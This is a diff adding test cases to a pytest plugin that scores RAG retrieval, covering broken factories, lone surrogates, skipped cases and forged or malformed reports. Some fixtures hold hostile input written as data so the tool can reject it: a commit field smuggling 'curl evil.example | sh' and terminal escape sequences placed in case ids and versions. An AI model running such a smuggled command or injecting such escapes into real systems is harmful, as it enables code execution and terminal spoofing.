@@ -19,6 +19,7 @@ from pathlib import Path
 
 import pytest
 
+from pytest_chunkrecall import __version__
 from pytest_chunkrecall.evaluation.results import CaseResult
 
 from .conftest import POLICIES, QUIET, assert_no_internals
@@ -164,6 +165,62 @@ def load_exits(path):
     sys.exit(2)
 
 
+def reranker_raises(**ignored):
+    raise ValueError("no model today")
+
+
+def reranker_none(**ignored):
+    return None
+
+
+def reranker_number(**ignored):
+    return 3
+
+
+def reranker_object(**ignored):
+    return object()
+
+
+def reranker_needs(model):
+    return lambda question, chunks, k: chunks[:k]
+
+
+def reranker_two(question, chunks):
+    return chunks
+
+
+def retriever_number(chunks):
+    return 3
+
+
+class ChunkerUnbuilt:
+    def __init__(self, **args):
+        raise ValueError("no tokenizer today")
+
+    def split_text(self, text):
+        return [text]
+
+
+class RetrieverUnbuilt:
+    def __init__(self, chunks):
+        raise ValueError("no index today")
+
+    def search(self, question, k):
+        return []
+
+
+def load_nothing(path):
+    return "Nothing of use here."
+
+
+def reference_raises(path):
+    raise ValueError("no PDF today")
+
+
+def load_surrogate(path):
+    return open(path, encoding="utf-8", errors="surrogateescape").read() + "\\udcff"
+
+
 def negative(text):
     return -len(text)
 
@@ -222,6 +279,15 @@ TWO_CASES = (
 )
 
 IMPORT_QA = ("import", "qa", "rows.jsonl", "--corpus", "docs/*.md", "--out", "gold/imported.yaml")
+IMPORT_CHUNKING_EVALUATION = ("import", "chunking-evaluation", "questions_df.csv")
+IMPORT_CHUNKING_EVALUATION += ("--corpora", "docs", "--out", "imported")
+
+
+def questions_df(references: str) -> str:
+    """Chroma's questions_df.csv of one question, its references written as given."""
+    return f'question,references,corpus_id\n"What is the refund window?","[{references}]",a\n'
+
+
 SQUAD = """{"version": "1.1", "data": [{"title": "Policies", "paragraphs": [
   {"context": "The refund window is 30 days. A restocking fee of 15 percent applies.",
    "qas": [
@@ -280,6 +346,22 @@ def forged(
     return text.replace('"line": 2', f'"line": {raw}') if raw else text
 
 
+def with_top(entries: list[object], **top: object) -> str:
+    """A one-case report whose case's ``top`` (the chunks it got back) is ``entries``."""
+    data = json.loads(forged(top=top))
+    data["cases"][0]["top"] = entries
+    return json.dumps(data)
+
+
+def made(commit: str | None, version: str = __version__, **case: object) -> str:
+    """A one-case report that says it was run from ``commit`` with pytest-chunkrecall ``version``."""
+    return forged(top={"source": {"version": version, "commit": commit}}, **case)
+
+
+OTHER_CASE = {"nodeid": "gold/a.yaml::restocking", "id": "restocking"}
+ESCAPE = "\x1b]0;pwned\x07\x1b[2J"  # a terminal title, then a cleared screen
+
+
 TWO_HITS = json.dumps(
     {
         "chunkrecall_baseline": 1,
@@ -304,6 +386,19 @@ THREE_CASES = (
     "cases:\n  - id: late\n    question: What is the late fee?\n    needle: 45 days\n"
     + TWO_CASES.removeprefix("cases:\n")
 )
+SURROGATE_DOCUMENTS = """
+def pytest_chunkrecall_documents(config, gold_path):
+    return {"a": "Refunds within 30 days.\\udcff"}
+"""
+SWALLOWS_A_CASE = """
+import pytest
+
+
+@pytest.hookimpl(tryfirst=True)
+def pytest_runtest_protocol(item, nextitem):
+    if item.name == "restocking":
+        return True  # as a plugin that drops a test: it never runs, and no report comes
+"""
 STOPPED = {"complete": False, "incomplete": {"reason": "interrupted", "not_run": 9}}
 HUGE = "9" * 5_000
 DAMAGED = "r.report is damaged: case 1 (gold/a.yaml::refund-window)"
@@ -406,6 +501,25 @@ ROWS: dict[str, Row] = {
         status=ERRORS,
         says="unknown key 'neddle' in a case; did you mean 'needle'?",
     ),
+    "a case id with an escape sequence": Row(
+        gold('cases:\n  - id: "red\\e[31mX"\n    question: q\n    needle: 30 days\n'),
+        status=ERRORS,
+        says="gold/a.yaml:2: 'id' may not contain '::', line breaks or other control "
+        "characters: 'red\\x1b[31mX'",
+        never="\x1b",
+    ),
+    **{
+        f"a gold file whose name holds {what}": Row(
+            {f"gold/b{character}.yaml": GOLD},
+            status=ERRORS,
+            says=f"chunkrecall: gold/b{escaped}.yaml: the gold file's path holds control "
+            "characters; rename the file",
+        )
+        for what, character, escaped in (
+            ("an escape sequence", "\x1b[31m", "\\x1b[31m"),
+            ("a line break", "\nFAILED", "\\nFAILED"),
+        )
+    },
     "a misplaced case key": Row(
         gold("needle: 30 days\n" + GOLD), status=ERRORS, says="'needle' belongs in a case"
     ),
@@ -614,10 +728,82 @@ ROWS: dict[str, Row] = {
         says="chunker rag:repeats was stopped on docs/a.md: its chunks passed 20 times",
         resource=True,
     ),
+    **{
+        f"a reranker that cannot be built ({why}){suffix}": Row(
+            {**gold(f"reranker: rag:{factory}\n" + GOLD), "gold/b.yaml": GOLD},
+            args=args,
+            status=FAILED,  # the gold file's case fails; the other gold file runs
+            says=f"gold/a.yaml:1: reranker rag:{factory} {message}",
+            never="INTERNALERROR",
+        )
+        for why, factory, message in (
+            (
+                "a factory that raises",
+                "reranker_raises",
+                "was called as a factory with {} and raised",
+            ),
+            ("a factory that returns None", "reranker_none", "gave None; it must be"),
+            ("a factory that returns a number", "reranker_number", "gave an int; it must be"),
+            ("a factory that returns an object", "reranker_object", "gave an object; it must be"),
+            ("a factory that needs an argument", "reranker_needs", "was called as a factory"),
+            ("a function of two parameters", "reranker_two", "was called as a factory"),
+        )
+        for suffix, args in (("", ()), (", under -n 2", ("-n", "2")))
+    },
+    **{
+        f"a {role} class that cannot be built{suffix}": Row(
+            {**gold(f"{role}: rag:{name}\n" + GOLD), "gold/b.yaml": GOLD},
+            args=args,
+            status=FAILED,  # the gold file's case fails, as with a reranker; the other one runs
+            says=f"gold/a.yaml: {role} rag:{name}{message}",
+            never="INTERNALERROR",
+        )
+        for role, name, message in (
+            ("chunker", "ChunkerUnbuilt", "(**{}) failed: ValueError: no tokenizer today"),
+            ("retriever", "RetrieverUnbuilt", " failed while building its index over 1 chunk"),
+        )
+        for suffix, args in (("", ()), (", under -n 2", ("-n", "2")))
+    },
+    "a retriever factory that returns a number": Row(
+        {**gold("retriever: rag:retriever_number\n" + GOLD), "gold/b.yaml": GOLD},
+        status=FAILED,
+        says="retriever rag:retriever_number",
+        never="INTERNALERROR",
+    ),
     "a loader that calls sys.exit": Row(
         ini="chunkrecall_loader = rag:load_exits",
         status=FAILED,
         says="loader rag:load_exits failed on docs/a.md",
+    ),
+    **{
+        f"a loader that returns a lone surrogate{suffix}": Row(
+            ini="chunkrecall_loader = rag:load_surrogate",
+            args=args,
+            status=FAILED,
+            says="loader rag:load_surrogate returned text for docs/a.md that holds a lone "
+            "surrogate (U+DCFF at offset 502), which is no Unicode character",
+            never="INTERNALERROR",
+        )
+        for suffix, args in (("", ()), (", under -n 2", ("-n", "2")))
+    },
+    **{
+        f"a documents hook that returns a lone surrogate{suffix}": Row(
+            {"conftest.py": SURROGATE_DOCUMENTS},
+            args=args,
+            status=status,  # a collection error; xdist exits 1 on one
+            says="document 'a' from pytest_chunkrecall_documents holds a lone surrogate "
+            "(U+DCFF at offset 23), which is no Unicode character",
+            never="INTERNALERROR",
+        )
+        for suffix, args, status in (("", (), ERRORS), (", under -n 2", ("-n", "2"), FAILED))
+    },
+    "a reference loader that raises": Row(
+        {**gold("corpus: ../docs/*.pdf\n" + GOLD), "docs/a.pdf": POLICIES},
+        ini="chunkrecall_loader = rag:load_nothing\nchunkrecall_reference_loader = rag:reference_raises",
+        status=FAILED,
+        says="  not checked: reference loader rag:reference_raises failed on docs/a.pdf: "
+        'ValueError: no PDF today:\n      File "rag.py", line ',
+        never='File "/',
     ),
     "a length function that returns negative numbers": Row(
         ini="chunkrecall_length = rag:negative",
@@ -736,6 +922,14 @@ ROWS: dict[str, Row] = {
     "a report written": Row(
         args=("--chunkrecall-report", "r.json"), writes=("r.json",), says="JSON report written"
     ),
+    **{
+        f"{option} ''": Row(
+            args=(option, ""),
+            status=USAGE,
+            says=f"{option} is empty: give the path of the file to write",
+        )
+        for option in ("--chunkrecall-report", "--chunkrecall-html", "--chunkrecall-markdown")
+    },
     # ---------------------------------------------------------------- outputs on the user's files
     "a report onto a corpus document": Row(
         args=("--chunkrecall-report", "docs/a.md"),
@@ -943,6 +1137,30 @@ ROWS: dict[str, Row] = {
         shows=(("r.json", '"incomplete": {\n    "reason": "interrupted"'),),
         resource=True,
     ),
+    **{
+        f"a case that never ran, though nothing failed{suffix}": Row(
+            {**gold(TWO_CASES), "conftest.py": SWALLOWS_A_CASE},
+            args=args,
+            status=FAILED,
+            says="the run is incomplete: some selected cases never ran; 1 of 2 selected cases "
+            "never ran; a run that did not evaluate every selected case does not pass",
+        )
+        for suffix, args in (("", ()), (", under -n 2", ("-n", "2")))
+    },
+    "the only case never ran, though nothing failed": Row(
+        {"conftest.py": SWALLOWS_A_CASE.replace("restocking", "refund-window")},
+        status=FAILED,
+        says="chunkrecall: FAILED: the run is incomplete: some selected cases never ran; 1 of 1 "
+        "selected case never ran; a run that did not evaluate every selected case does not pass",
+    ),
+    **{
+        f"{option} runs no case, and passes": Row(args=(option,), says=says, never="incomplete")
+        for option, says in (
+            ("--collect-only", "1 test collected"),
+            ("--setup-plan", "no tests ran"),
+            ("--setup-only", "no tests ran"),
+        )
+    },
     "-k: a selection is a whole run": Row(
         gold(THREE_CASES),
         args=("-k", "refund", "--chunkrecall-report", "r.json"),
@@ -966,6 +1184,16 @@ ROWS: dict[str, Row] = {
         status=FAILED,
         says="the run is incomplete: r.report: interrupted; 9 cases never ran; the gate does "
         "not pass on part of a run",
+    ),
+    "compare: a case that was never evaluated": Row(
+        {"r.report": forged(top={"unevaluated": ["gold/a.yaml::restocking"]}), "b.json": BASELINE},
+        args=COMPARE,
+        command=True,
+        status=FAILED,
+        says="chunkrecall: FAILED: 1 case of r.report could not be evaluated (an error, a "
+        "timeout or a crashed worker): gold/a.yaml::restocking; the log of the run that wrote "
+        "the report says why: fix it, run those cases again, and compare the new report",
+        never="see the errors above",
     ),
     "merge: an incomplete shard": Row(
         {"r.report": forged(top=STOPPED)},
@@ -1045,12 +1273,67 @@ ROWS: dict[str, Row] = {
         status=2,
         says="belongs to the gold file 'gold/a.yaml', which is not among the report's",
     ),
+    "merge: a shard with no source": Row(
+        {"r.report": forged()},
+        args=MERGE,
+        command=True,
+        status=2,
+        says="r.report has no 'source' (the version and commit it was run from)",
+    ),
+    "merge: a forged commit beside a null one": Row(
+        {"r.report": made(None), "r2.report": made("main; curl evil.example | sh", **OTHER_CASE)},
+        args=("merge", "r.report", "r2.report", "--out", "m.json"),
+        command=True,
+        status=2,
+        says="r2.report is damaged: the commit of 'source' is 'main; curl evil.example | sh'; "
+        "it must be a git commit id (40 to 64 hexadecimal digits) or null",
+    ),
+    "merge: a forged version with control characters": Row(
+        {"r.report": made(None), "r2.report": made(None, f"9.9{ESCAPE}", **OTHER_CASE)},
+        args=("merge", "r.report", "r2.report", "--out", "m.json"),
+        command=True,
+        status=2,
+        says="r2.report is damaged: the version of 'source' is '9.9\\x1b]0;pwned\\x07",
+        never="\x1b",
+    ),
+    **{
+        f"{command}: a top entry whose doc is a number": Row(
+            {"r.report": with_top([{"doc": 1}]), "b.json": BASELINE},
+            args=(command, *args),
+            command=True,
+            status=2,
+            says=f"{DAMAGED}: 'top[0].doc' is 1; it must be text or null",
+        )
+        for command, args in (
+            ("merge", MERGE[1:]),
+            ("compare", COMPARE[1:]),
+            ("export", ("trec", "r.report", "--out", "trec")),
+        )
+    },
+    "compare: a case id with control characters": Row(
+        {
+            "r.report": forged(nodeid=f"gold/a.yaml::a{ESCAPE}", id=f"a{ESCAPE}"),
+            "b.json": BASELINE,
+        },
+        args=COMPARE,
+        command=True,
+        status=2,
+        says="r.report is damaged: case 1: 'nodeid' is 'gold/a.yaml::a\\x1b]0;pwned",
+        never="\x1b",
+    ),
+    "compare: ranks seen a million times": Row(
+        {"r.report": forged(unstable=True, ranks_seen=[1, None] * 500_000), "b.json": BASELINE},
+        args=COMPARE,
+        command=True,
+        says="(ranks seen 1, missed, 1, missed, 1, missed, 1, missed, 1, missed, 1, missed,",
+        never="1, missed, " * 40,
+    ),
     "merge: an integer of 5,000 digits": Row(
         {"r.report": forged(raw=HUGE)},
         args=MERGE,
         command=True,
         status=2,
-        says="r.report holds a number of 5,000 digits",
+        says="r.report holds a number of 5,000 digits, too long to be part of a chunkrecall report",
     ),
     "compare: an integer of 5,000 digits": Row(
         {"r.report": forged(raw=HUGE), "b.json": BASELINE},
@@ -1064,14 +1347,16 @@ ROWS: dict[str, Row] = {
         args=COMPARE,
         command=True,
         status=2,
-        says="baseline b.json holds a number of 5,000 digits",
+        says="baseline b.json holds a number of 5,000 digits, too long to be part of a baseline",
     ),
     "export: an integer of 5,000 digits": Row(
         {"r.report": forged(raw=HUGE)},
         args=("export", "trec", "r.report", "--out", "trec"),
         command=True,
         status=2,
-        says="r.report: the JSON report holds a number of 5,000 digits",
+        says="r.report holds a number of 5,000 digits, too long to be part of a chunkrecall "
+        "report; give a file written by --chunkrecall-report",
+        never="in quotes",
     ),
     "export: a case with an unknown verdict": Row(
         {"r.report": forged(verdict="pwned")},
@@ -1166,6 +1451,21 @@ ROWS: dict[str, Row] = {
         command=True,
         status=2,
         says="rows.jsonl:1: this line holds a number of 5,000 digits",
+    ),
+    "import chunking-evaluation: a start_index of 5,000 digits": Row(
+        {"questions_df.csv": questions_df('{""content"": ""30 days"", ""start_index"": ' + HUGE)},
+        args=IMPORT_CHUNKING_EVALUATION,
+        command=True,
+        status=2,
+        says="questions_df.csv:2: 'references' holds a number of 5,000 digits; no start_index "
+        "or end_index is that long",
+    ),
+    "import chunking-evaluation: references nested 60,000 deep": Row(
+        {"questions_df.csv": questions_df("[" * 60_000 + "]" * 60_000)},
+        args=IMPORT_CHUNKING_EVALUATION,
+        command=True,
+        status=2,
+        says="questions_df.csv:2: 'references' is nested too deeply to be a list of references",
     ),
     "import qa: a FIFO as input": Row(
         args=("import", "qa", "rows.jsonl", "--corpus", "docs/*.md", "--out", "gold/b.yaml"),
